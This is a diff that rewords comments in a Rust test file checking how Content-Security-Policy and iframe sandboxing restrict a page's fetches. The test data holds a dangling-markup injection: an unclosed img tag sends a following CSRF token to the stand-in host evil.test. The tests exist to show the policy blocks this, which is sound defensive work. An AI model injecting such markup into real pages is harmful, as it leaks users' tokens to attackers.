@@ -1,10 +1,10 @@
-//! What a document forbids itself, and what only looks like an element.
+//! Restrictions by a document's policies, and text that only resembles elements.
 use http::{HeaderMap, HeaderValue, header};
 use longhaul_page::{Discovery, Initiator, Reference, Viewport};
 
 use crate::{page, paths};
 
-/// The paths of what is found in a document with this policy, and let through by it and by the markup's own.
+/// Returns the paths of the references that this policy and those of the markup allow.
 fn admitted(policy: &'static str, html: &str) -> Vec<String> {
     let response: HeaderMap = [(header::CONTENT_SECURITY_POLICY, HeaderValue::from_static(policy))]
         .into_iter()
@@ -30,7 +30,7 @@ fn an_injected_image_takes_nothing_along() {
         "<p>hello <img src='http://evil.test/log?<form><input name=csrf value=TOKEN></form><a title='x'>";
     assert_eq!(paths(html).len(), 1, "without a line break browsers fetch it");
     assert!(admitted("default-src 'none'", html).is_empty());
-    // Left open to the end it is no element at all.
+    // An unclosed tag at the end is no element.
     assert!(paths("<p><img src='http://evil.test/log?x").is_empty());
     assert!(paths("<p><img src=http://evil.test/log?x ").is_empty());
 }
@@ -102,7 +102,7 @@ fn frames_inherit_and_add() {
         "<meta http-equiv=content-security-policy content=img-src&#32;&apos;none&apos;><img src=no.png>";
     let html = format!("<iframe srcdoc=\"{inner}\"></iframe><img src=1.png>");
     assert_eq!(admitted("img-src *", &html), ["1.png"]);
-    // Another origin makes requests that are none of the page's.
+    // A document with another origin makes requests that do not belong to the page.
     let html = "<iframe sandbox srcdoc='<img src=no.png>'></iframe>
         <iframe sandbox='allow-same-origin' srcdoc='<img src=1.png><script src=no.js></script>'></iframe>";
     assert_eq!(admitted("img-src *", html), ["1.png"]);
